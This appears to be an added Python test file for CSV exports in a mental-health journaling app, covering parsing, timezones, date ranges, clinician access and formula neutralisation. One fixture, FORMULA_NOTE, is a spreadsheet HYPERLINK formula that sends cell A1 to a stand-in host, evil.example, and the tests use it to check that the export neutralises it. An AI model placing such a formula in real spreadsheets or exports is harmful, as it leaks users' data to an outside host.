@@ -1,0 +1,161 @@
+"""CSV exports over HTTP: what the patient and a linked clinician download is RFC 4180 that
+Python's csv module reads back to the stored values, with instants in the patient's offset,
+formula cells neutralised, a date-range filter, and a header-only file for an empty range."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+
+import pytest
+
+from lift.domain import export
+from tests.integration.sharing_helpers import (
+    invite, seed_checkins, seed_scale, seed_session, shared_with, user_id,
+)
+
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
+
+
+def read(response) -> list[dict[str, str]]:
+    assert response.status_code == 200, response.text[:500]
+    assert response.headers["content-type"].startswith("text/csv")
+    assert response.headers["content-disposition"].startswith("attachment; filename=\"lift-")
+    body = response.content.decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    return rows
+
+
+def header(response) -> list[str]:
+    return next(csv.reader(io.StringIO(response.text, newline="")))
+
+
+@pytest.fixture
+def checkins(patient, database):
+    notes = {0: FORMULA_NOTE, 1: 'quote " comma , and\na line break', 2: "+1 day", 3: "-", 4: "@home", 5: "ünïcödé ✓"}
+    seed_checkins(database, "pat@example.com",
+                  [(date(2026, 3, day), day % 11, day % 4, notes.get(day % 6, "")) for day in range(1, 31)])
+    database.execute("UPDATE checkins SET created_at = local_date || 'T13:30:00Z'")
+    database.commit()
+
+
+async def test_the_patients_checkins_parse_back_to_the_stored_values(patient, checkins, database):
+    rows = read(await patient.get("/export?kind=checkins"))
+    stored = database.execute("SELECT local_date, mood, anxiety, sleep_hours, thoughts, note FROM checkins"
+                              " ORDER BY local_date").fetchall()
+    assert len(rows) == len(stored) == 30
+    for row, (day, mood, anxiety, sleep, thoughts, note) in zip(rows, stored):
+        assert (row["date"], int(row["mood"]), int(row["anxiety"]), float(row["sleep_hours"]),
+                int(row["thoughts"])) == (day, mood, anxiety, sleep, thoughts)
+        assert row["note"] == export.neutralise(note)
+        assert row["timezone"] == "America/New_York" and row["patient_email"] == "pat@example.com"
+    assert list(rows[0]) == [c.name for c in export.CHECKIN_COLUMNS]
+
+
+async def test_a_hyperlink_formula_in_a_note_is_neutralised(patient, checkins):
+    response = await patient.get("/export?kind=checkins")
+    notes = [row["note"] for row in read(response)]
+    assert "'" + FORMULA_NOTE in notes and FORMULA_NOTE not in notes
+    for note in notes:
+        assert not note.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert '"quote "" comma , and\na line break"' in response.text
+
+
+async def test_times_carry_the_patients_offset_on_each_side_of_daylight_saving(patient, checkins):
+    rows = {row["date"]: row for row in read(await patient.get("/export?kind=checkins"))}
+    assert rows["2026-03-07"]["recorded_at"] == "2026-03-07T08:30:00-05:00"
+    assert rows["2026-03-09"]["recorded_at"] == "2026-03-09T09:30:00-04:00"
+
+
+async def test_a_date_range_filters_by_the_patients_local_dates(patient, checkins):
+    rows = read(await patient.get("/export?kind=checkins&start=2026-03-10&end=2026-03-12"))
+    assert [row["date"] for row in rows] == ["2026-03-10", "2026-03-11", "2026-03-12"]
+    assert [row["date"] for row in read(await patient.get("/export?kind=checkins&start=2026-03-29"))] == [
+        "2026-03-29", "2026-03-30"]
+
+
+async def test_an_empty_range_gives_a_header_only_file(patient, checkins):
+    response = await patient.get("/export?kind=checkins&start=2025-01-01&end=2025-01-31")
+    assert read(response) == []
+    assert response.text == ",".join(c.name for c in export.CHECKIN_COLUMNS) + "\r\n"
+    assert "lift-journal-checkins-2025-01-01-to-2025-01-31.csv" in response.headers["content-disposition"]
+
+
+@pytest.mark.parametrize("query", ["start=yesterday", "start=2026-03-10&end=2026-03-01", "end=2026-02-30"])
+async def test_a_bad_range_is_refused_with_a_page_that_says_why(patient, query):
+    response = await patient.get(f"/export?kind=checkins&{query}")
+    assert response.status_code == 422 and "Enter dates as YYYY-MM-DD" in response.text
+
+
+async def test_an_unknown_kind_of_file_is_not_found(patient):
+    assert (await patient.get("/export?kind=passwords")).status_code == 404
+
+
+async def test_the_scales_file_measures_change_response_and_remission(patient, database):
+    seed_scale(database, "pat@example.com", date(2026, 1, 5), 20)
+    seed_scale(database, "pat@example.com", date(2026, 2, 5), 10)
+    seed_scale(database, "pat@example.com", date(2026, 3, 5), 4)
+    seed_scale(database, "pat@example.com", date(2026, 3, 6), 9, "gad7")
+    rows = read(await patient.get("/export?kind=scales"))
+    assert [(r["instrument"], r["total"], r["band"], r["is_baseline"], r["change_from_baseline"], r["response"],
+             r["remission"]) for r in rows] == [
+        ("phq9", "20", "Severe", "1", "", "", ""),
+        ("phq9", "10", "Moderate", "0", "-10", "yes", "no"),
+        ("phq9", "4", "Minimal", "0", "-16", "yes", "yes"),
+        ("gad7", "9", "Mild", "1", "", "", ""),
+    ]
+    assert rows[0]["taken_at"] == "2026-01-05T10:00:00-05:00"
+
+
+async def test_the_sessions_file_lists_logs_and_side_effects(patient, database):
+    seed_session(database, "pat@example.com", "2026-07-01T14:00:00Z", "done", note="-ok", effects={"nausea": "mild"},
+                 mood=(3, 7))
+    seed_session(database, "pat@example.com", "2026-07-04T14:00:00Z", "planned")
+    rows = read(await patient.get("/export?kind=sessions"))
+    assert [(r["date"], r["starts_at"], r["status"], r["mood_before"], r["mood_after"], r["bp_before"],
+             r["side_effects"], r["note"]) for r in rows] == [
+        ("2026-07-01", "2026-07-01T10:00:00-04:00", "done", "3", "7", "128/82", "Nausea or vomiting: mild", "'-ok"),
+        ("2026-07-04", "2026-07-04T10:00:00-04:00", "planned", "", "", "", "", ""),
+    ]
+
+
+async def test_the_definitions_file_documents_every_column_and_rule(patient):
+    rows = read(await patient.get("/export?kind=definitions"))
+    terms = {(r["file"], r["term"]) for r in rows}
+    assert ("checkins", "note") in terms and ("scales", "response") in terms and ("scales", "PHQ-9 bands") in terms
+
+
+async def test_a_linked_clinician_exports_one_patient_or_the_whole_panel(patient, other_patient, people, checkins,
+                                                                        database):
+    doctor = await shared_with(patient, people("doctor@example.com"), "clinician")
+    path, _ = await invite(other_patient, "clinician")
+    await doctor.post(f"{path}/accept")
+    seed_checkins(database, "other@example.com", [(date(2026, 3, 3), 2, 0, "=1+1")])
+    pid = user_id(database, "pat@example.com")
+    one = read(await doctor.get(f"/clinician/patients/{pid}/export?kind=checkins&start=2026-03-01&end=2026-03-05"))
+    assert {r["patient_email"] for r in one} == {"pat@example.com"} and len(one) == 5
+    everyone = read(await doctor.get("/clinician/export?kind=checkins&start=2026-03-01&end=2026-03-05"))
+    assert len(everyone) == 6 and {r["patient_email"] for r in everyone} == {"pat@example.com", "other@example.com"}
+    assert "'=1+1" in [r["note"] for r in everyone]
+
+
+async def test_a_clinician_cannot_export_a_patient_who_did_not_link_to_them(patient, other_patient, people, checkins,
+                                                                            database):
+    doctor = await shared_with(patient, people("doctor@example.com"), "clinician")
+    other = user_id(database, "other@example.com")
+    assert (await doctor.get(f"/clinician/patients/{other}/export?kind=checkins")).status_code == 404
+    rows = read(await doctor.get("/clinician/export?kind=checkins"))
+    assert {r["patient_email"] for r in rows} == {"pat@example.com"}
+
+
+async def test_an_empty_panel_exports_a_header_only_file(people, patient):
+    doctor = await shared_with(patient, people("doctor@example.com"), "clinician")
+    response = await doctor.get("/clinician/export?kind=sessions")
+    assert read(response) == [] and header(response) == [c.name for c in export.SESSION_COLUMNS]
+
+
+async def test_the_download_is_streamed_without_a_length_known_in_advance(patient, checkins):
+    response = await patient.get("/export?kind=checkins")
+    assert "content-length" not in response.headers
+    assert response.headers["cache-control"] == "no-store"
